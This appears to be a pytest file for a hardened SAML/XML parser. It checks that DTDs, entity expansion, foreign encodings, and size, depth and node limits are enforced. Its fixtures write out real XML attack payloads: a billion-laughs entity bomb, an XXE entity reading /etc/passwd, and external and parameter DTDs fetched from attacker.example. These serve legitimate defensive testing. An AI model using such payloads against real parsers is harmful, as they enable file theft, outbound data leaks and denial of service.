"""The hardened parser: DTDs, entities, encodings, size, depth and node caps."""

from __future__ import annotations

import time

import pytest

from signing.errors import (
    XmlDoctypeForbidden,
    XmlEncodingNotAllowed,
    XmlMalformed,
    XmlTooDeep,
    XmlTooLarge,
    XmlTooManyNodes,
)
from signing.keys import SigningKey
from signing.truststore import TrustStore
from signing.xml_parsing import MIB, XmlLimits, parse_xml
from tests.signing import saml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<r>&xxe;</r>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<r/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<r/>"""


def test_plain_document_parses() -> None:
    root = parse_xml(b"<r><a>1</a><!-- kept --></r>")
    assert root.tag == "r"
    assert root.findtext("a") == "1"


def test_billion_laughs_is_refused_in_under_100_ms() -> None:
    started = time.perf_counter()
    with pytest.raises(XmlDoctypeForbidden):
        parse_xml(BILLION_LAUGHS)
    assert time.perf_counter() - started < 0.1


def test_billion_laughs_inside_a_saml_response_is_refused_in_under_100_ms(
    trust: TrustStore,
) -> None:
    document = BILLION_LAUGHS.replace(
        b"<lolz>&lol9;</lolz>", saml.response_xml().split(b"?>", 1)[1]
    )
    started = time.perf_counter()
    with pytest.raises(XmlDoctypeForbidden):
        saml.verify_assertion(document, trust)
    assert time.perf_counter() - started < 0.1


@pytest.mark.parametrize("document", [EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtds_and_external_entities_are_refused(document: bytes) -> None:
    with pytest.raises(XmlDoctypeForbidden):
        parse_xml(document)


def test_utf16_cannot_smuggle_a_doctype_past_the_byte_screen() -> None:
    with pytest.raises(XmlEncodingNotAllowed):
        parse_xml(
            EXTERNAL_ENTITY.decode().replace('"1.0"?', '"1.0" encoding="UTF-16"?').encode("utf-16")
        )


def test_declared_foreign_encoding_is_refused() -> None:
    with pytest.raises(XmlEncodingNotAllowed):
        parse_xml(b'<?xml version="1.0" encoding="ISO-8859-1"?><r/>')


def test_ten_megabyte_document_is_refused_before_parsing(
    rsa_key: SigningKey, trust: TrustStore
) -> None:
    padding = b"<saml:Attribute Name='x'>" + b"A" * (10 * MIB) + b"</saml:Attribute>"
    document = saml.signed_assertion_response(rsa_key).replace(
        b"</samlp:Response>", padding + b"</samlp:Response>"
    )
    assert len(document) > 10 * MIB
    started = time.perf_counter()
    with pytest.raises(XmlTooLarge):
        saml.verify_assertion(document, trust)
    assert time.perf_counter() - started < 0.1


def test_size_limit_is_a_parameter() -> None:
    with pytest.raises(XmlTooLarge):
        parse_xml(b"<r>" + b"x" * 100 + b"</r>", limits=XmlLimits(max_bytes=50))


def test_depth_is_capped() -> None:
    deep = b"<a>" * 100 + b"</a>" * 100
    with pytest.raises(XmlTooDeep):
        parse_xml(deep)
    assert parse_xml(deep, limits=XmlLimits(max_depth=200)).tag == "a"


def test_node_count_is_capped() -> None:
    wide = b"<r>" + b"<a/>" * 20_000 + b"</r>"
    with pytest.raises(XmlTooManyNodes):
        parse_xml(wide)


def test_comments_count_as_nodes() -> None:
    with pytest.raises(XmlTooManyNodes):
        parse_xml(b"<r>" + b"<!---->" * 20 + b"</r>", limits=XmlLimits(max_nodes=10))


@pytest.mark.parametrize("document", [b"", b"<r>", b"<r></s>", b"not xml", b"<a/><b/>"])
def test_malformed_documents_are_refused(document: bytes) -> None:
    with pytest.raises(XmlMalformed):
        parse_xml(document)


def test_str_input_is_a_programming_error() -> None:
    with pytest.raises(TypeError):
        parse_xml("<r/>")  # type: ignore[arg-type]
